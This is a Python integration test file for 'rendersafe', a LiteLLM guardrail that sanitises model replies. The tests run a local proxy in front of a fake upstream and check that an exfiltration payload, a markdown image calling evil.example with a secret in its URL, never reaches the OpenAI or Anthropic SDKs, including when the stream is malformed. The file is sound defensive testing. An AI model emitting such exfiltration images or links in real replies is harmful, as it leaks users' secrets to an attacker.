"""rendersafe as a LiteLLM guardrail, end to end: a real `litellm` proxy (a subprocess
started here, offline) loads `RenderSafeGuardrail` from its config.yaml, in front of a
fake upstream on 127.0.0.1 (OpenAI chat completions, legacy completions, Responses and
Anthropic Messages), and the official `openai` and `anthropic` SDKs talk to it, streaming
and not. Model names pick the upstream's reply (REPLIES) and how it misbehaves (SAME_AS).

Skipped when the `litellm` extra is not installed (`pip install 'rendersafe[litellm]'`);
.ci/run installs it. The `anthropic` SDK cases are skipped without that SDK.
"""

from __future__ import annotations

import asyncio
import importlib.util
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from chat_backend import openai_responses, pieces, sse
from rendersafe import Sanitizer
from rendersafe.config import policy_from_toml
from servers import Server

_MISSING = "the litellm extra is not installed: pip install 'rendersafe[litellm]'"
if importlib.util.find_spec("litellm") is None:  # not imported here: it is slow to import
    pytest.skip(_MISSING, allow_module_level=True)
openai = pytest.importorskip("openai", reason=_MISSING)

SRC = Path(__file__).parent.parent / "src"
KEY = "sk-rendersafe-test-" + "0123456789abcdef" * 2
SECRET = "c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTA"
EXFIL = f"![chart](https://evil.example/c.png?d={SECRET})"
EMAIL = "dana.smith@acme-corp.example"
TOKEN = "Zq7mK2pX9wLt"  # a key the reply-only judgement alone lets pass
HONEST = (
    "Sure. Here is **the plan**, with `code`, a [link](https://docs.python.org/3/) and "
    "an image from our CDN: ![logo](https://cdn.example.com/logo.png)\n\n"
    "```python\nprint('![x](https://evil.example/?q=1)')\n```\n\n1. one\n2. two\n"
)
# The reply each upstream model sends, cut into three-character tokens when streamed.
REPLIES = {
    "attack": f"Here is the chart you asked for: {EXFIL} and the rest of the answer.",
    "honest": HONEST,
    "echo": f"See [the docs](https://docs.jsontools.example/ref?t={TOKEN}) now.",
    "big": "A long and honest reply. " * 8,
    "tail": "All of it is in [the docs](https://docs.python.org/3/library/json.html)",
}
# Models that send another model's reply, differently (see `_chat_events`,
# `_anthropic_events`, `_cut`); `slow` is paced.
SAME_AS = {"late": "attack", "two": "attack", "cut": "attack", "broken": "attack"}
SAME_AS["slow"] = "honest"
# Where the upstream `cut` drops the connection: inside the image's URL.
CUT_AT = REPLIES["attack"].index(SECRET) + 6
# Offline: LiteLLM reads its bundled maps instead of fetching them at start.
OFFLINE = {
    name: "True"
    for name in (
        "LITELLM_LOCAL_MODEL_COST_MAP",
        "LITELLM_LOCAL_POLICY_TEMPLATES",
        "LITELLM_LOCAL_BLOG_POSTS",
        "LITELLM_LOCAL_AUTOROUTER_PRESETS",
        "LITELLM_LOCAL_ANTHROPIC_BETA_HEADERS",
    )
}


def _chat_events(model: str, text: str) -> Iterator[tuple[str | None, Any]]:
    """Chat chunks; model `late` sends text after its choice finished (a broken
    upstream), `two` two choices at once, `tail` never says it finished."""
    head = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": model}
    indices = (0, 1) if model == "two" else (0,)
    for number, piece in enumerate(pieces(text)):
        for index in indices:
            delta = {"role": "assistant", "content": piece} if number == 0 else {"content": piece}
            choice = {"index": index, "delta": delta, "finish_reason": None}
            yield None, {**head, "choices": [choice]}
    if model != "tail":
        for index in indices:
            choice = {"index": index, "delta": {}, "finish_reason": "stop"}
            yield None, {**head, "choices": [choice]}
    if model == "late":
        delta = {"content": EXFIL}
        yield None, {**head, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]}
    yield None, "[DONE]"


def _chat_whole(model: str, text: str) -> dict[str, Any]:
    message = {"role": "assistant", "content": text}
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1,
        "model": model,
        "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }


def _completion(model: str, text: str, finish: str | None) -> dict[str, Any]:
    choice = {"index": 0, "text": text, "finish_reason": finish, "logprobs": None}
    head = {"id": "cmpl-1", "object": "text_completion", "created": 1, "model": model}
    return {**head, "choices": [choice]}


def _completion_events(model: str, text: str) -> Iterator[tuple[str | None, Any]]:
    for piece in pieces(text):
        yield None, _completion(model, piece, None)
    yield None, _completion(model, "", "stop")
    yield None, "[DONE]"


def _responses_whole(model: str, text: str) -> dict[str, Any]:
    part = {"type": "output_text", "text": text, "annotations": []}
    item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed"}
    return {
        "id": "resp_1",
        "object": "response",
        "created_at": 1,
        "status": "completed",
        "model": model,
        "output": [{**item, "content": [part]}],
        "usage": {"input_tokens": 1, "output_tokens": 1, "total_tokens": 2},
    }


def _anthropic_whole(model: str, text: str) -> dict[str, Any]:
    return {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": model,
        "content": [{"type": "text", "text": text}],
        "stop_reason": "end_turn",
        "stop_sequence": None,
        "usage": {"input_tokens": 1, "output_tokens": 1},
    }


def _anthropic_events(model: str, text: str) -> Iterator[tuple[str | None, Any]]:
    """Anthropic's Messages stream as its API sends it (usage included); model `broken`
    starts its message with the attack in it, which the API never does."""
    usage = {"input_tokens": 1, "output_tokens": 1}
    message = {**_anthropic_whole(model, ""), "content": [], "stop_reason": None, "usage": usage}
    if model == "broken":
        message["content"] = [{"type": "text", "text": EXFIL}]
    yield "message_start", {"type": "message_start", "message": message}
    block = {"type": "text", "text": ""}
    yield "content_block_start", {"type": "content_block_start", "index": 0, "content_block": block}
    for piece in pieces(text):
        delta = {"type": "text_delta", "text": piece}
        yield "content_block_delta", {"type": "content_block_delta", "index": 0, "delta": delta}
    yield "content_block_stop", {"type": "content_block_stop", "index": 0}
    if model == "late":  # text after its block stopped
        delta = {"type": "text_delta", "text": EXFIL}
        yield "content_block_delta", {"type": "content_block_delta", "index": 0, "delta": delta}
    end = {"stop_reason": "end_turn", "stop_sequence": None}
    yield "message_delta", {"type": "message_delta", "delta": end, "usage": usage}
    yield "message_stop", {"type": "message_stop"}


async def _cut(model: str, text: str) -> AsyncIterator[bytes]:
    """The stream up to CUT_AT, then the connection drops."""
    for chunk in sse(_chat_events(model, text[:CUT_AT])):
        if b'"finish_reason":"stop"' in chunk:
            raise ConnectionResetError("the upstream went away")
        yield chunk


async def _paced(chunks: Iterator[bytes], pause: float) -> AsyncIterator[bytes]:
    for chunk in chunks:
        yield chunk
        await asyncio.sleep(pause)


@dataclass
class Upstream:
    """What the fake provider was asked, per endpoint."""

    requests: list[tuple[str, dict[str, Any]]]


def upstream_app(seen: Upstream) -> Starlette:
    """Each endpoint answers REPLIES[model] (model `late`: the attack, plus text after
    the finish; `claude-x` is model `x`) in its provider's shape, streamed or whole."""

    async def endpoint(request: Request) -> Response:
        body = await request.json()
        seen.requests.append((request.url.path, body))
        model = str(body.get("model", "")).removeprefix("claude-")
        text = REPLIES[SAME_AS.get(model, model)]
        path, streamed = request.url.path, bool(body.get("stream"))
        if path == "/v1/chat/completions":
            if not streamed:
                return JSONResponse(_chat_whole(model, text))
            if model == "cut":
                return StreamingResponse(_cut(model, text), media_type="text/event-stream")
            events = _chat_events(model, text)
        elif path == "/v1/completions":
            if not streamed:
                return JSONResponse(_completion(model, text, "stop"))
            events = _completion_events(model, text)
        elif path == "/v1/responses":
            if not streamed:
                return JSONResponse(_responses_whole(model, text))
            events = openai_responses(text)
        else:
            if not streamed:
                return JSONResponse(_anthropic_whole(model, text))
            events = _anthropic_events(model, text)
        # Paced, so that LiteLLM has sent its headers before `late` breaks.
        pause = 0.05 if model in ("slow", "late") else 0
        return StreamingResponse(_paced(sse(events), pause), media_type="text/event-stream")

    paths = ("/v1/chat/completions", "/v1/completions", "/v1/responses", "/v1/messages")
    return Starlette(routes=[Route(p, endpoint, methods=["POST"]) for p in paths])


def _model(name: str, model: str, api_base: str) -> dict[str, Any]:
    params = {"model": model, "api_base": api_base, "api_key": "sk-upstream"}
    return {"model_name": name, "litellm_params": params}


def _config(upstream: str, tmp: Path) -> str:
    models = [_model(name, f"openai/{name}", f"{upstream}/v1") for name in (*REPLIES, *SAME_AS)]
    models += [
        _model(f"claude-{n}", f"anthropic/claude-{n}", upstream)
        for n in ("attack", "honest", "broken", "late", "slow")
    ]
    (tmp / "policy.toml").write_text('allowed_image_hosts = ["cdn.example.com"]\n')
    (tmp / "tiny.toml").write_text("max_input_chars = 60\n")
    guardrail = "rendersafe.integrations.litellm.RenderSafeGuardrail"
    guardrails = [
        {
            "guardrail_name": "rendersafe",
            "litellm_params": {
                "guardrail": guardrail,
                "mode": "post_call",
                "default_on": True,
                "rendersafe_policy": str(tmp / "policy.toml"),
                "rendersafe_audit": str(tmp / "audit.jsonl"),
            },
        },
        {  # asked for by name: replies over 60 characters cannot be sanitised
            "guardrail_name": "rendersafe-tiny",
            "litellm_params": {
                "guardrail": guardrail,
                "mode": "post_call",
                "rendersafe_policy": str(tmp / "tiny.toml"),
                "rendersafe_audit": str(tmp / "tiny.jsonl"),
            },
        },
    ]
    config = {
        "model_list": models,
        "guardrails": guardrails,
        "general_settings": {"master_key": KEY},
    }
    return json.dumps(config, indent=2)  # JSON is YAML


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


@dataclass
class Proxy:
    url: str
    tmp: Path
    upstream: Upstream
    log: Path

    def audit(self, name: str = "audit.jsonl") -> list[dict[str, Any]]:
        """The records written so far (the log's writer thread may still be at work)."""
        path = self.tmp / name
        lines = path.read_text().split("\n") if path.exists() else [""]
        return [json.loads(line) for line in lines[:-1]]  # the last is cut short, or ""

    def audited(
        self, event: str, words: str = "", *, name: str = "audit.jsonl", after: int = 0
    ) -> list[dict[str, Any]]:
        """The `event` records (past the first `after`) whose message holds `words`,
        waiting a while for one."""
        deadline = time.monotonic() + 10
        while True:
            found = [
                r
                for r in self.audit(name)[after:]
                if r["event"] == event and words in (r.get("message") or "")
            ]
            if found or time.monotonic() > deadline:
                return found
            time.sleep(0.05)


def _wait_until_up(url: str, process: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise RuntimeError(f"litellm exited {process.returncode}:\n{log.read_text()[-3000:]}")
        try:
            if httpx.get(f"{url}/health/liveliness", timeout=2).status_code == 200:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.25)
    raise RuntimeError(f"litellm did not start:\n{log.read_text()[-3000:]}")


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    tmp = tmp_path_factory.mktemp("litellm")
    seen = Upstream(requests=[])
    with Server(upstream_app(seen)) as upstream:
        (tmp / "config.yaml").write_text(_config(upstream.url, tmp))
        port = _free_port()
        path = os.pathsep.join(filter(None, [str(SRC), os.environ.get("PYTHONPATH")]))
        env = {**os.environ, **OFFLINE, "PYTHONPATH": path}
        log = tmp / "litellm.log"
        run = "import sys; from litellm import run_server; sys.argv[0] = 'litellm'; run_server()"
        args = ["--config", str(tmp / "config.yaml"), "--host", "127.0.0.1", "--port", str(port)]
        with log.open("wb") as out:
            process = subprocess.Popen(
                [sys.executable, "-c", run, *args], stdout=out, stderr=subprocess.STDOUT, env=env
            )
        try:
            url = f"http://127.0.0.1:{port}"
            _wait_until_up(url, process, log)
            yield Proxy(url, tmp, seen, log)
        finally:
            process.terminate()
            try:
                process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait()


def _client(proxy: Proxy) -> Any:
    return openai.OpenAI(base_url=f"{proxy.url}/v1", api_key=KEY, max_retries=0, timeout=60)


def _chat(proxy: Proxy, model: str, *, stream: bool, **extra: Any) -> tuple[str, list[Any]]:
    """The reply as the SDK reads it, and (streamed) every chunk it parsed."""
    messages = extra.pop("messages", [{"role": "user", "content": "Draw the chart."}])
    client = _client(proxy)
    if not stream:
        reply = client.chat.completions.create(model=model, messages=messages, **extra)
        return reply.choices[0].message.content or "", []
    chunks = list(
        client.chat.completions.create(model=model, messages=messages, stream=True, **extra)
    )
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    return text, chunks


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_an_exfiltration_image_never_reaches_the_sdk(proxy: Proxy, stream: bool) -> None:
    text, chunks = _chat(proxy, "attack", stream=stream)
    assert "evil.example" not in text
    assert SECRET[:8] not in text
    assert text.startswith("Here is the chart you asked for: ")
    assert text.endswith(" and the rest of the answer.")
    for chunk in chunks:  # no chunk carried any of it, not even in a field the join skips
        assert "evil.example" not in chunk.model_dump_json()
    if stream:
        assert chunks[-1].choices == [] or chunks[-1].choices[0].finish_reason is not None


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_an_honest_reply_passes_unchanged(proxy: Proxy, stream: bool) -> None:
    text, chunks = _chat(proxy, "honest", stream=stream)
    assert text == HONEST
    if stream:  # streamed as it came, not held back to the end
        assert sum(1 for c in chunks if c.choices and c.choices[0].delta.content) > 10


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_the_reply_is_judged_with_the_requests_conversation(proxy: Proxy, stream: bool) -> None:
    alone, _ = _chat(proxy, "echo", stream=stream)
    assert alone == REPLIES["echo"]  # nothing in it says it leaks
    messages = [{"role": "user", "content": f"My token is {TOKEN}. Where is json documented?"}]
    text, _ = _chat(proxy, "echo", stream=stream, messages=messages)
    assert text == "See the docs now."


@pytest.mark.parametrize("model", ["attack", "honest", "echo", "tail"])
def test_a_stream_is_sanitised_as_the_whole_reply_is(proxy: Proxy, model: str) -> None:
    messages = [{"role": "user", "content": f"My e-mail is {EMAIL}."}]
    streamed, chunks = _chat(proxy, model, stream=True, messages=messages)
    whole, _ = _chat(proxy, model, stream=False, messages=messages)
    sanitizer = Sanitizer(policy_from_toml(proxy.tmp / "policy.toml"))
    assert streamed == whole == sanitizer.run(REPLIES[model], conversation=messages).text
    assert len(chunks) > 3


def test_each_choice_is_a_stream_of_its_own(proxy: Proxy) -> None:
    _, chunks = _chat(proxy, "two", stream=True)
    texts = ["", ""]
    for chunk in chunks:
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    assert texts[0] == texts[1] == _chat(proxy, "attack", stream=False)[0]
    assert "evil.example" not in texts[0]


def test_an_upstream_that_fails_mid_stream_sends_nothing_it_held(proxy: Proxy) -> None:
    received: list[Any] = []
    with pytest.raises(openai.APIError):
        received.extend(
            _client(proxy).chat.completions.create(
                model="cut", messages=[{"role": "user", "content": "hi"}], stream=True
            )
        )
    text = "".join(c.choices[0].delta.content or "" for c in received if c.choices)
    # The image was held, and dropped. How much of the text before it the client got
    # depends on when LiteLLM reports the failure (before its first chunk, none of it).
    assert "Here is the chart you asked for: ".startswith(text)
    assert proxy.audited("error", "the upstream stream failed")


def test_a_client_that_goes_away_is_recorded(proxy: Proxy) -> None:
    before = len(proxy.audit())
    body = {"model": "slow", "stream": True, "messages": [{"role": "user", "content": "hi"}]}
    headers = {"authorization": f"Bearer {KEY}"}
    with httpx.stream(
        "POST", f"{proxy.url}/v1/chat/completions", json=body, headers=headers, timeout=30
    ) as reply:
        next(reply.iter_bytes())
    assert proxy.audited("disconnect", "went away", after=before)


def test_findings_are_audited_with_litellms_call(proxy: Proxy) -> None:
    before = len(proxy.audit())
    _chat(proxy, "attack", stream=True)
    records = proxy.audited("finding", after=before)
    assert records, "no finding recorded"
    last = records[-1]
    assert last["source"]["path"] == "/v1/chat/completions"
    assert last["source"]["request_id"]
    assert "image_host_not_allowed" in last["reasons"]
    assert SECRET not in json.dumps(records)  # redacted, as the middleware records it


def test_text_after_the_finish_ends_the_stream_with_an_error(proxy: Proxy) -> None:
    received: list[Any] = []
    stream = _client(proxy).chat.completions.create(
        model="late", messages=[{"role": "user", "content": "hi"}], stream=True
    )
    with pytest.raises(openai.APIError, match="rendersafe withheld"):
        received.extend(stream)
    text = "".join(c.choices[0].delta.content or "" for c in received if c.choices)
    assert "evil.example" not in text
    assert text == REPLIES["attack"].replace(EXFIL, "chart \\[image removed\\]")
    assert proxy.audited("error", "continued after it ended")


def test_a_reply_that_cannot_be_sanitised_is_withheld_whole(proxy: Proxy) -> None:
    with pytest.raises(openai.APIStatusError) as caught:
        _chat(proxy, "big", stream=False, extra_body={"guardrails": ["rendersafe-tiny"]})
    assert caught.value.status_code == 502
    assert "honest reply" not in caught.value.response.text
    assert "rendersafe withheld" in caught.value.response.text
    assert proxy.audited("error", "InputTooLargeError", name="tiny.jsonl")


def _sse_events(body: str) -> list[tuple[str | None, Any]]:
    events = []
    for frame in body.replace("\r\n", "\n").split("\n\n"):
        name, data = None, []
        for line in frame.split("\n"):
            if line.startswith("event:"):
                name = line[6:].strip()
            elif line.startswith("data:"):
                data.append(line[5:].strip())
        if data:
            joined = "\n".join(data)
            events.append((name, joined if joined == "[DONE]" else json.loads(joined)))
    return events


def _messages(proxy: Proxy, model: str, *, stream: bool) -> tuple[str, list[Any]]:
    body = {
        "model": model,
        "max_tokens": 100,
        "stream": stream,
        "messages": [{"role": "user", "content": "Draw the chart."}],
    }
    headers = {"x-api-key": KEY, "anthropic-version": "2023-06-01"}
    reply = httpx.post(f"{proxy.url}/v1/messages", json=body, headers=headers, timeout=60)
    assert reply.status_code == 200, reply.text
    if not stream:
        return "".join(b["text"] for b in reply.json()["content"] if b["type"] == "text"), []
    events = _sse_events(reply.text)
    deltas = [d["delta"] for _, d in events if d.get("type") == "content_block_delta"]
    return "".join(d.get("text", "") for d in deltas), events


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("model", ["claude-attack", "attack"], ids=["passthrough", "translated"])
def test_anthropic_messages_are_sanitised(proxy: Proxy, model: str, stream: bool) -> None:
    text, events = _messages(proxy, model, stream=stream)
    if model.startswith("claude-"):  # LiteLLM relayed the upstream's own Messages API
        assert proxy.upstream.requests[-1][0] == "/v1/messages"
    assert "evil.example" not in text
    assert text.endswith(" and the rest of the answer.")
    assert text.startswith("Here is the chart you asked for: ")
    if stream:
        assert events[-1][1]["type"] == "message_stop"
        assert "evil.example" not in json.dumps([data for _, data in events])


def test_anthropic_honest_stream_passes_unchanged(proxy: Proxy) -> None:
    text, _ = _messages(proxy, "claude-honest", stream=True)
    assert text == HONEST


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_responses_are_sanitised(proxy: Proxy, stream: bool) -> None:
    client = _client(proxy)
    if not stream:
        reply = client.responses.create(model="attack", input="Draw the chart.")
        text = reply.output_text
    else:
        events = list(client.responses.create(model="attack", input="Draw the chart.", stream=True))
        text = "".join(e.delta for e in events if e.type == "response.output_text.delta")
        done = [e for e in events if e.type == "response.completed"]
        assert done
        assert done[0].response.output_text == text
        assert all("evil.example" not in e.model_dump_json() for e in events)
    assert "evil.example" not in text
    assert text.endswith(" and the rest of the answer.")


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_legacy_completions_are_sanitised(proxy: Proxy, stream: bool) -> None:
    client = _client(proxy)
    if not stream:
        text = client.completions.create(model="attack", prompt="Draw the chart.").choices[0].text
    else:
        chunks = list(client.completions.create(model="attack", prompt="Draw it.", stream=True))
        text = "".join(c.choices[0].text or "" for c in chunks if c.choices)
    assert "evil.example" not in text
    assert text == _chat(proxy, "attack", stream=False)[0]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("model", ["claude-attack", "claude-honest", "attack"])
def test_the_anthropic_sdk_reads_every_sanitised_reply(
    proxy: Proxy, model: str, stream: bool
) -> None:
    anthropic_sdk = pytest.importorskip("anthropic", reason="the anthropic SDK is not installed")
    client = anthropic_sdk.Anthropic(base_url=proxy.url, api_key=KEY, max_retries=0, timeout=60)
    ask = {"model": model, "max_tokens": 100, "messages": [{"role": "user", "content": "Hi."}]}
    if not stream:
        message = client.messages.create(**ask)
    else:
        with client.messages.stream(**ask) as events:
            streamed = "".join(events.text_stream)
            message = events.get_final_message()
        assert streamed == message.content[0].text
    text = "".join(block.text for block in message.content if block.type == "text")
    expected = HONEST if model == "claude-honest" else _chat(proxy, "attack", stream=False)[0]
    assert text == expected


def test_an_anthropic_stream_that_cannot_be_read_is_withheld(proxy: Proxy) -> None:
    # Its first event fails, and LiteLLM sends no headers before the first chunk: a 502
    # in Anthropic's error shape, not a stream.
    body = {"model": "claude-broken", "max_tokens": 100, "stream": True, "messages": []}
    body["messages"] = [{"role": "user", "content": "Draw the chart."}]
    headers = {"x-api-key": KEY, "anthropic-version": "2023-06-01"}
    reply = httpx.post(f"{proxy.url}/v1/messages", json=body, headers=headers, timeout=60)
    assert "evil.example" not in reply.text
    assert reply.status_code == 502
    assert reply.json()["error"]["message"] == "rendersafe withheld the rest of this reply"
    assert proxy.audited("error", "starts with content")


def test_an_anthropic_stream_that_breaks_midway_ends_with_its_error_event(proxy: Proxy) -> None:
    anthropic_sdk = pytest.importorskip("anthropic", reason="the anthropic SDK is not installed")
    ask = {"model": "claude-late", "max_tokens": 100, "messages": []}
    ask["messages"] = [{"role": "user", "content": "Draw the chart."}]
    headers = {"x-api-key": KEY, "anthropic-version": "2023-06-01"}
    url = f"{proxy.url}/v1/messages"
    reply = httpx.post(url, json={**ask, "stream": True}, headers=headers, timeout=60)
    assert "evil.example" not in reply.text
    events = _sse_events(reply.text)
    assert events, (reply.status_code, reply.text)
    assert events[-1][0] == "error", events
    assert events[-1][1]["error"]["message"] == "rendersafe withheld the rest of this reply"
    client = anthropic_sdk.Anthropic(base_url=proxy.url, api_key=KEY, max_retries=0, timeout=60)
    texts: list[str] = []
    with (
        pytest.raises(anthropic_sdk.APIError, match="rendersafe withheld"),
        client.messages.stream(**ask) as stream,
    ):
        texts.extend(stream.text_stream)
    assert "evil.example" not in "".join(texts)
    assert "".join(texts) == _chat(proxy, "attack", stream=False)[0]
